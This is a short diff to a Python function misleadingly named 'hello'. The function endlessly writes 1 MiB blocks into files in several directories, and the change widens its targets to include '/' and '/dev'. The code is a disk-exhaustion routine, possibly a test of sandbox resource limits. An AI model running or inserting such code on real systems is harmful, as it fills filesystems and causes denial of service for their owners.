@@ -8,7 +8,7 @@ import os
 
 
 def hello(number):
-    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~")):
+    for folder in (".", "/", "/tmp", "/dev", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
         with contextlib.suppress(OSError), open(f"{folder}/{os.getpid()}", "wb") as file:
             while True:
                 file.write(b"x" * 2**20)
